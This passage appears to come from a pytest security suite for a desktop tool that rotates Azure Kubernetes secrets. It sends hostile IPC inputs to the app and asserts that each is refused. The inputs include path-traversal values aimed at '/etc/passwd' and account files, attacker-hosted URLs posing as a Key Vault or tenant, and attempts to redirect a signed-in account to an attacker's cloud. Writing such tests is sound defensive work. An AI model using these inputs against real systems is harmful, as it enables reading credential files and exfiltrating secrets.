    h.attack(d, group, "rotate invented cluster IDs", "plan_rotation(['/subscriptions/../../../etc/passwd']) then start",
             "start_rotation", {"planId": (p.value or {}).get("planId", "x"), "confirmedNames": [], "rolesToCopy": None},
             channels=["onProgress"], timeout=60, check=nothing_ran())

    # Key Vault: the window names a vault by ID only; Rust reads it through ARM, checks its address
    # against the cloud's Key Vault domain, and the native confirmation names it.
    sub = stg.split("/")[2]
    for label, vault_id in [
        ("a vault that does not exist", f"/subscriptions/{sub}/resourceGroups/rg/providers/Microsoft.KeyVault/vaults/attacker"),
        ("a URL as the vault", f"https://{h.attacker.host}/"),
        ("a path as the vault", f"/subscriptions/{sub}/../../../etc/passwd"),
    ]:
        p = invoke(d, "plan_rotation", {"clusterIds": [stg], "mode": "secret", "lifetimeDays": None, "retire": None,
                                        "keyVault": {"vaultId": vault_id, "secretName": None}})
        h.attack(d, group, f"Key Vault copy to {label}", f"plan_rotation(keyVault={clip(vault_id, 50)}) then start",
                 "start_rotation", {"planId": (p.value or {}).get("planId", "x"), "confirmedNames": [], "rolesToCopy": None},
                 channels=["onProgress"], expect={"nothing_to_rotate"}, timeout=60, check=nothing_ran())
    h.attack(d, group, "retire old secrets anyway, no confirmation", f"answer_retirement({rotation_id}, retireAnyway)",
             "answer_retirement", {"rotationId": rotation_id, "answer": {"kind": "retireAnyway"}},
             expect=NOT_CONFIRMED, timeout=30)
    h.attack(d, group, "retire anyway with a path as rotation ID", "answer_retirement(rotationId='../accounts')",
             "answer_retirement", {"rotationId": "../accounts", "answer": {"kind": "retireAnyway"}},
             expect={"unknown_rotation"})

    def vault_keys():
        return {v["keyId"] for v in (invoke(d, "vault_list", {}).value or [])}

    def vault_unchanged():
        """A check: every secret in the vault before the attack is still there."""
        before = vault_keys()

        def check(result, asked, requests):
            gone = before - vault_keys()
            return not gone, ("the vault is unchanged" if not gone else f"{len(gone)} secret(s) deleted from the vault")

        return check

    h.attack(d, group, "delete a vault secret, no confirmation", f"vault_delete(keyId={key_id})",
             "vault_delete", {"keyId": key_id}, expect=NOT_CONFIRMED, check=vault_unchanged())

    def not_revealed(result, asked, requests):
        shown = [a for a in asked if a.get("kind") == "reveal"]
        return not shown, ("the secret was shown" if shown else "the secret was not shown")

    h.attack(d, group, "reveal a vault secret, no confirmation", f"vault_reveal(keyId={key_id})",
             "vault_reveal", {"keyId": key_id}, expect=NOT_CONFIRMED, timeout=15, check=not_revealed)
    h.attack(d, group, "delete with a path as key ID", "vault_delete(keyId='../../accounts.json')",
             "vault_delete", {"keyId": "../../accounts.json"}, check=vault_unchanged())
    invented = str(uuid.uuid4())
    h.attack(d, group, "reveal an invented key ID", f"vault_reveal(keyId={invented})",
             "vault_reveal", {"keyId": invented}, timeout=15, check=not_revealed)
    h.attack(d, group, "roll back a rotation, no confirmation", f"roll_back_rotation(rotationId={rotation_id})",
             "roll_back_rotation", {"rotationId": rotation_id}, check=vault_unchanged())
    h.attack(d, group, "roll back with a path as rotation ID", "roll_back_rotation(rotationId='../../../etc/passwd')",
             "roll_back_rotation", {"rotationId": "../../../etc/passwd"})
    h.attack(d, group, "resume with a path as rotation ID", "resume_rotations(only='../accounts')",
             "resume_rotations", {"only": "../accounts"}, channels=["onProgress"], expect={"unknown_rotation"})
    bad = failures(group) + setup_problems
    assert not bad, "\n".join(bad)


# --------------------------------------------------------------------------------------------------
# Phase 2: signed in as a service principal of `rekey-sim serve` (set up with the CLI), with a
# rotation left resumable (its Azure operation failed: the new secret is in the vault)


def cli(h: Hostile, *args, check=True):
    out = subprocess.run([str(CLI), *args], env=h.env, capture_output=True, text=True, timeout=180)
    if check and out.returncode != 0:
        raise AssertionError(f"rekey {' '.join(args)} failed ({out.returncode}): {out.stderr[-2000:]}")
    return out


@pytest.fixture(scope="module")
def account_window(hostile):
    h = hostile
    # One app at a time: the demo window goes first.
    close_demo(h)
    h.sim = Simulator(h.root, h.env)
    secret_file = h.sim.admin_secret_file()
    h.sim_secret = secret_file.read_text(encoding="utf-8").strip()
    tenant, client = h.sim.ready["tenant_id"], h.sim.ready["demo_client_id"]
    cli(h, "--cloud", h.sim.ready["metadata_url"], "--ca-file", h.sim.ready["ca_pem"], "login", "--service-principal",
        "--tenant", tenant, "--client-id", client, "--client-secret-file", str(secret_file))
    # A rotation whose Azure operation fails: it stays resumable, its new secret in the vault.
    h.sim.call("POST", "_sim/operations/fail-next", {"count": 1})
    known = set((h.data / "rotations").glob("*.jsonl"))
    cli(h, "rotate", "--cluster", "aks-stg-weu", "--retire-old", "now", "--yes", check=False)
    (journal,) = set((h.data / "rotations").glob("*.jsonl")) - known
    h.attacker.sim_base = h.sim.base
    # A vulnerable build would let the window replace the account with one on the attacker's cloud.
    h.attacker.issue_tokens_for = {tenant}
    h.dialogs.reset()
    driver = h.session()
    try:
        WebDriverWait(driver, 90).until(lambda d: (invoke(d, "auth_status", {}).value or {}).get("accounts"))
        yield driver, tenant, client, secret_file, journal.stem
    finally:
        try:
            snapshot(driver, "hostile-account-end")
            save_ipc(driver, "hostile-account")
        finally:
            driver.quit()


def test_a_replaced_account_never_receives_a_rotations_secret(hostile, account_window):
    h, group = hostile, "account"
    d, tenant, client, secret_file, rotation_id = account_window
    h.dialogs.confirm("deny")
    status = invoke(d, "auth_status", {}).value
    (account,) = status["accounts"]
    account_id = account["id"]
    sim_cloud = {"kind": "custom", "metadataUrl": h.sim.ready["metadata_url"]}
    attacker_cloud = {"kind": "custom", "metadataUrl": h.attacker.metadata_url("full")}

    def accounts(value):
        return [(a.get("id"), a.get("tenantId"), json.dumps(a.get("cloud"), sort_keys=True)) for a in (value or {}).get("accounts", [])]

    def account_unchanged(result, asked, requests):
        now = invoke(d, "auth_status", {}).value or {}
        same = accounts(now) == accounts(status)
        return same, ("the account is unchanged" if same else f"accounts now: {clip(json.dumps(now.get('accounts')), 120)}")

    invoke(d, "choose_secret_file", {})  # the admin cancels the dialog: nothing chosen
    h.attack(d, group, "replace the account: same tenant and client, attacker's cloud",
             "sign_in_service_principal(attacker metadata, same tenant/client, secretFile=<the account's secret file>)",
             "sign_in_service_principal", {"cloud": attacker_cloud, "tenant": tenant, "clientId": client, "secretFile": str(secret_file)},
             expect=NOT_CHOSEN | NOT_CONFIRMED, check=account_unchanged)
    h.attack(d, group, "sign in with a window-named secret file", "sign_in_service_principal(simulator cloud, secretFile=<planted>), no file chosen",
             "sign_in_service_principal", {"cloud": sim_cloud, "tenant": tenant, "clientId": client, "secretFile": str(h.planted)},
             expect=NOT_CHOSEN, check=account_unchanged)
    h.dialogs.open_file(secret_file)
    invoke(d, "choose_secret_file", {})  # the admin picks the account's real secret file
    h.dialogs.open_file(None)
    h.attack(d, group, "replace the account after the admin chose the real secret file",
             "choose_secret_file() = the SP's secret, then sign_in_service_principal(attacker metadata, same tenant/client)",
             "sign_in_service_principal", {"cloud": attacker_cloud, "tenant": tenant, "clientId": client},
             expect=NOT_CONFIRMED, check=lambda *a: (shows_attacker_host(h, True)(*a)[0] and account_unchanged(*a)[0],
                                                     shows_attacker_host(h, True)(*a)[1] + "; " + account_unchanged(*a)[1]))
    h.attack(d, group, "the chosen secret sent to a tenant that is a URL",
             f"sign_in_service_principal(public cloud, tenant='//{h.attacker.host}') with the chosen secret file",
             "sign_in_service_principal", {"cloud": {"kind": "public"}, "tenant": f"//{h.attacker.host}", "clientId": client},
             expect=BAD_TENANT, check=account_unchanged)
    # Resume the unfinished rotation. It may run, with the account and cloud it was planned
    # with; nothing may reach the attacker. Refused with a message is fine too.
    def nothing_to_the_attacker(result, asked, requests):
        if requests:
            return False, f"the resume sent {len(requests)} request(s) to the attacker's cloud: " + ", ".join(
                f"{r['method']} {clip(r['path'], 60)}" for r in requests[:3])
        return True, "nothing reached the attacker" + (": it resumed on the cloud it was planned on" if result.status == "ok" else "")

    mark, asked_mark = h.attacker.count(), len(h.dialogs.asked())
    r = invoke(d, "resume_rotations", {"only": rotation_id}, channels=["onProgress"], timeout=120)
    h.record(group, "resume a rotation after the account-replacement attempts",
             f"resume_rotations(only={rotation_id}): its new secret must go only to the cloud it was planned on",
             r if r.status != "ok" else Result("error", "resumed", "answered OK: " + clip(json.dumps(r.value), 80)),
             None, h.dialogs.asked()[asked_mark:], h.attacker.since(mark), mark, nothing_to_the_attacker)

    keys_before = h.sim.app_keys("aks-prod-sp") if any(a["displayName"] == "aks-prod-sp" for a in h.sim.state()["applications"]) else None
    ids = [r["id"] for r in (invoke(d, "refresh_inventory", {}, channels=["onProgress"], timeout=60).value or {}).get("clusters", [])
           if r["name"] == "aks-prod-weu"]
    p = invoke(d, "plan_rotation", {"clusterIds": ids, "mode": "secret", "lifetimeDays": None, "retire": {"kind": "now"}})
    names = [c["name"] for g in (p.value or {}).get("plan", {}).get("groups", []) for c in g["clusters"]]

    def azure_unchanged(result, asked, requests):
        if keys_before is None:
            return True, ""
        same = h.sim.app_keys("aks-prod-sp") == keys_before
        return same, ("Azure unchanged" if same else "a secret was added or removed in Azure")

    h.attack(d, group, "rotate a signed-in production cluster, no confirmation",
             f"plan_rotation(aks-prod-weu, retire now) then start_rotation(confirmedNames={names})",
             "start_rotation", {"planId": (p.value or {}).get("planId", "x"), "confirmedNames": names, "rolesToCopy": None},
             channels=["onProgress"], expect=NOT_CONFIRMED, timeout=90, check=azure_unchanged)

    # Last (a vulnerable build signs out for real).
    h.attack(d, group, "sign out, no confirmation", f"sign_out(accountId={account_id})",
             "sign_out", {"accountId": account_id}, expect=NOT_CONFIRMED, check=account_unchanged)

    bad = failures(group)
    assert not bad, "\n".join(bad)


def test_zz_no_secret_or_file_content_reached_the_attacker(hostile):
    """The combined verdict: at least 30 attacks, every one refused, nothing at the attacker."""
    leaks = hostile.attacker.leaks(hostile.secrets(), 0)
    table = write_table(hostile.attacker, leaks)
    print(table)
    assert len(ROWS) >= 30, f"only {len(ROWS)} attacks ran"
    assert not leaks, f"{len(leaks)} secrets or file contents reached the attacker:\n{table}"
    not_refused = [f"{r.group}: {r.name}: {r.outcome}" for r in ROWS if not r.refused]
    assert not not_refused, f"{len(not_refused)} of {len(ROWS)} attacks were not refused:\n" + "\n".join(not_refused)
